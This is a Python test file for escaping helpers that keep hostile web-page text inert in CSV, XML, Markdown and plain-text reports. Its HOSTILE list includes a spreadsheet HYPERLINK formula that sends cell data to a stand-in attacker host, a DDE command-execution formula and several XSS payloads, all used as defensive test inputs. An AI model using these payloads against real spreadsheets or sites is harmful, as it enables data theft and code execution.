"""Escaping helpers for the non-HTML outputs: hostile page text stays text."""

from __future__ import annotations

import csv
import io
import re
import xml.etree.ElementTree as ET

from hypothesis import given, settings
from hypothesis import strategies as st

from auditor.render.escape import csv_cell, md_code, md_link, md_text, plain_text, xml_clean, xml_text

HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"clic\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
    "\t=1+1", "\r=1+1", " =1+1", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "javascript:alert(1)", "a | b", "[lien](javascript:alert(1))", "![img](http://x/y.png)", "`code`",
    "ligne 1\nligne 2", "\x00\x08\x1b", "]]><x>", "&amp;", "# titre", "**gras**", "<!-- -->",
]


def test_csv_cells_are_neutralised():
    for h in HOSTILE[:7]:
        assert csv_cell(h).startswith("'"), h
    assert csv_cell("Justificatif de domicile") == "Justificatif de domicile"
    assert csv_cell(-3) == -3 and csv_cell(0.5) == 0.5 and csv_cell(None) == ""
    assert csv_cell("75001") == "75001"


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_csv_no_cell_reads_as_formula(text):
    buf = io.StringIO()
    csv.writer(buf).writerow([csv_cell(text)])
    (row,) = list(csv.reader(io.StringIO(buf.getvalue()))) or [[""]]
    cell = row[0] if row else ""
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), repr(cell)
    assert not cell.lstrip(" ").startswith(("=", "+", "@"))


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_xml_text_round_trips_in_elements_and_attributes(text):
    doc = f"<r a=\"{xml_text(text)}\" b='{xml_text(text)}'>{xml_text(text)}</r>"
    root = ET.fromstring(doc)
    expected = xml_clean(text)
    assert (root.text or "") == expected.replace("\r\n", "\n").replace("\r", "\n")
    assert len(root) == 0  # no element smuggled in


def test_xml_hostile():
    for h in HOSTILE:
        root = ET.fromstring(f"<r>{xml_text(h)}</r>")
        assert len(root) == 0


_UNESCAPED_MD = re.compile(r"(?<!\\)[\[\]()`*_|<>!#]")


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_md_text_has_no_live_markdown_or_html(text):
    out = md_text(text)
    assert "\n" not in out and "\r" not in out
    assert "<" not in out and ">" not in out
    # every Markdown punctuation mark is backslash-escaped (and no backslash is left dangling)
    stripped = re.sub(r"\\\\", "", out)
    assert not _UNESCAPED_MD.search(stripped), out


def test_md_hostile_examples():
    assert md_text("<script>alert(1)</script>") == "&lt;script&gt;alert\\(1\\)&lt;/script&gt;"
    assert md_text("a | b") == "a \\| b"
    assert "](" not in md_text("[lien](javascript:alert(1))").replace("\\](", "").replace("\\]\\(", "")
    assert md_link("Cliquer", "javascript:alert(1)") == "Cliquer"
    assert md_link("Page", "https://x.fr/a?b=1") == "[Page](https://x.fr/a?b=1)"
    assert md_link("Page", "https://x.fr/a b") == "Page"


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_md_code_span_is_closed_and_one_line(text):
    out = md_code(text)
    fence = re.match(r"`+", out).group(0)
    assert out.endswith(fence) and "\n" not in out
    inner = out[len(fence):-len(fence)]
    assert fence not in inner
    assert "|" not in re.sub(r"\\\|", "", inner)


def test_plain_text_is_one_line():
    assert plain_text("a\nb\r\nc\x00d") == "a b c d"
    assert plain_text("a\nb\r\nc\x00d", limit=5) == "a b …"
